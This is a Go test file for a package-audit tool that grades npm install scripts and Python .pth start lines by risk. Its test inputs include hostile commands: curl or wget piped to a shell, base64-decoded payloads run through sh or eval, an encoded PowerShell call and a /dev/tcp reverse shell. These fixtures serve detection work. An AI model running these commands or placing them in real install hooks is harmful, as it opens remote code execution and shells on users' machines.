package trust

import (
	"strings"
	"testing"

	"github.com/fnaudit/fnaudit/sbom"
)

// TestInstallScript: what is known is a note, a program of its own is low, what
// fetches is medium, and what hides or runs what it fetches is high. The part
// after " -> " is what the program does that the command runs.
func TestInstallScript(t *testing.T) {
	for in, want := range map[string]Weight{
		"install: node-gyp rebuild":                                       Note,
		"install: node-gyp-build":                                         Note,
		"install: prebuild-install || node-gyp rebuild":                   Note,
		"install: prebuild-install -r napi || (node-gyp rebuild)":         Note,
		"install: node-pre-gyp install --fallback-to-build":               Note,
		"postinstall: opencollective || exit 0":                           Note,
		"postinstall: echo thanks":                                        Note,
		"prepare: husky install":                                          Note,
		"preinstall: npx only-allow pnpm":                                 Note,
		`postinstall: node -e "try{require('./postinstall')}catch(e){}"`:  Note,
		"extension: ext/x/extconf.rb":                                     Note,
		"postinstall: node setup.js":                                      Low,
		"postinstall: node setup.js -> programs":                          Low,
		"install: npm run build":                                          Low,
		"postinstall: node setup.js -> network":                           Medium,
		"postinstall: node setup.js -> network, programs":                 Medium,
		"postinstall: node setup.js -> it could not be read":              Medium,
		"postinstall: curl -o x https://files.example/x":                  Medium,
		"postinstall: npm install other":                                  Medium,
		"postinstall: npx other":                                          Medium,
		"postinstall: curl -s https://files.example/x.sh | bash":          High,
		"postinstall: wget -qO- files.example/x | node":                   High,
		"postinstall: bash <(curl -s files.example/x)":                    High,
		`postinstall: eval "$(curl -s files.example/x)"`:                  High,
		"postinstall: echo ZWNobyBoaQ== | base64 -d | sh":                 High,
		`postinstall: node -e "eval(Buffer.from('YQ==','base64')+'')"`:    High,
		"install: node-gyp rebuild && powershell -enc YQBiAGMA":           High,
		"postinstall: bash -i >& /dev/tcp/192.0.2.1/4444":                 High,
		"postinstall: node setup.js -> network, secrets":                  High,
		"postinstall: node setup.js -> runs what it decodes":              High,
		"postinstall: node setup.js -> hides its names":                   High,
		"postinstall: node-gyp rebuild; node x.js -> network":             Medium,
		`postinstall: node -e "try{require('./x')}catch(e){}" -> network`: Medium,
		"postinstall: ": Note,
	} {
		script, does, _ := strings.Cut(in, " -> ")
		c := sbom.Component{PURL: "pkg:npm/a@1", Name: "a", Traits: []sbom.Trait{{Kind: sbom.TraitScript, Path: "node_modules/a/package.json", Detail: script}}}
		if does != "" {
			c.Traits = append(c.Traits, sbom.Trait{Kind: sbom.TraitCalls, Path: "node_modules/a/setup.js", Detail: does})
		}
		got := scripts(&c)
		if len(got) != 1 || got[0].Weight != want || got[0].Rule != RuleInstallScript {
			t.Errorf("%q: got %s", in, said(got))
		}
		if words := does != "" && want > Note; len(got) == 1 && got[0].Probable != words {
			t.Errorf("%q: probable %t, want %t: only what words of a program say is", in, got[0].Probable, words)
		}
	}
}

func TestInstallScriptNotTold(t *testing.T) {
	c := originComponent("pkg:npm/a@1", "a", "script package-lock.json "+sbom.NotTold)
	if got, want := said(scripts(&c)), "install-script low: has a script that runs at installation; what it does is not told"; got != want {
		t.Errorf("got %s", got)
	}
	c = originComponent("pkg:npm/a@1", "a", "script package-lock.json "+sbom.NotTold, "script node_modules/a/package.json install: node-gyp rebuild")
	if got, want := said(scripts(&c)), "install-script note: runs at installation: install: node-gyp rebuild"; got != want {
		t.Errorf("got %s", got)
	}
}

// TestStartScript holds the lines of .pth files that tools are known to write,
// and that a look-alike of one is not one.
func TestStartScript(t *testing.T) {
	const distutils = `import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); `
	const namespace = `import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)`
	for in, want := range map[string]Weight{
		strings.TrimSpace(distutils): Note,
		namespace:                    Note,
		"import __editable___a_1_0_finder; __editable___a_1_0_finder.install()": Note,
		"import coverage; coverage.process_startup()":                           Note,
		"import _virtualenv": Note,
		"import evil":        Medium,
		"import coverage; coverage.process_startup(); import evil":                 Medium,
		"import __editable___a_finder; __editable___b_finder.install()":            Medium,
		strings.Replace(distutils, "_distutils_hack", "evil", 1):                   Medium,
		strings.Replace(namespace, "importlib.util')", "evil')", 1):                Medium,
		namespace + ";__import__('evil')":                                          Medium,
		"import os; exec(__import__('base64').b64decode('YQ=='))":                  High,
		"import urllib.request; urllib.request.urlopen('https://files.example/x')": High,
	} {
		traits := []sbom.Trait{{Kind: sbom.TraitScript, Path: "x.pth", Detail: "start: " + in}}
		for _, got := range [][]Signal{starts(traits), scripts(&sbom.Component{PURL: "pkg:pypi/a@1", Traits: traits})} {
			if len(got) != 1 || got[0].Weight != want || got[0].Rule != RuleStartScript {
				t.Errorf("%q: got %s", in, said(got))
			}
		}
	}
}

func TestNative(t *testing.T) {
	for purl, want := range map[string]string{
		"pkg:npm/a@1 library for Linux":    "native-binary low: holds machine code that its manifest says nothing of: x (library for Linux)",
		"pkg:pypi/a@1 library for Linux":   "native-binary medium: holds machine code although its wheel says that it is for all platforms: x (library for Linux)",
		"pkg:pypi/a@1 program for Windows": "native-binary note: holds machine code although its wheel says that it is for all platforms: x (program for Windows)",
	} {
		purl, detail, _ := strings.Cut(purl, " ")
		c := originComponent(purl, "a", "native x "+detail)
		if got := said(native(&c)); got != want {
			t.Errorf("got %s", got)
		}
	}
}
